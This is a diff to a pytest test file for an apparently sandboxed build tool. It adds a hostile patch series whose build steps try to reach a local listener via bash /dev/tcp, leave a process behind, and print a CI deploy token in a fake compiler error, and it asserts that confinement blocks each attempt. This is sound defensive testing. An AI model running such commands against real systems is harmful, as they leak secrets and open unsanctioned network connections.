@@ -191,10 +191,13 @@ def hostile(tmp_path, monkeypatch):
                  "exit 1\n"),
         _version(3, "k: phone home", f"\t@bash -c 'echo hello > /dev/tcp/127.0.0.1/{listener.port}'\n"),
         _version(4, "k: linger", f"\t@(sleep {marker} > /dev/null 2>&1 &)\n"),
+        _version(5, "k: read a token", '\t@echo "kernel/a.c:1:1: error: token [$$CI_DEPLOY_TOKEN]" >&2; exit 1\n'),
     ]
+    token = f"tok-{random.randrange(10**9)}"
+    monkeypatch.setenv("CI_DEPLOY_TOKEN", token)
     mkseries.write(tree, "HEAD", "k: hostile", versions, tmp_path / "mails", tag="hostile")
     yield {"tree": tree, "spec": spec, "mails": tmp_path / "mails", "tmp": tmp_path, "home": home,
-           "secret": secret, "outside": outside, "listener": listener, "marker": marker}
+           "secret": secret, "outside": outside, "listener": listener, "marker": marker, "token": token}
     listener.close()
     for pid in _marked(marker):  # the control run's lingering process: ours to end
         os.kill(pid, 9)
@@ -229,6 +232,8 @@ def test_a_hostile_series_touches_nothing_but_its_own_work(hostile, capsys):
     assert h["listener"].arrived == 0
     # 4: the process it left behind died with the build's PID namespace
     assert cells[4]["status"] == "pass" and _marked(h["marker"]) == []
+    # 5: the tool's environment stays out: a token in it is not there to be printed
+    assert cells[5]["errors"][0]["message"] == "token []" and h["token"] not in said
     assert "bwrap" in cells[1]["reproduce"] and gittree.snapshot(h["tree"]) == snap
 
     # the control: the same series unconfined does every one of those things
@@ -239,6 +244,7 @@ def test_a_hostile_series_touches_nothing_but_its_own_work(hostile, capsys):
     assert h["secret"] in cells[2]["errors"][0]["message"]
     assert h["listener"].arrived == 1 and cells[3]["status"] == "pass"
     assert _marked(h["marker"]) != []
+    assert cells[5]["errors"][0]["message"] == f"token [{h['token']}]"
 
 
 def test_a_build_killed_at_its_timeout_or_by_ctrl_c_leaves_nothing_running(tmp_path):
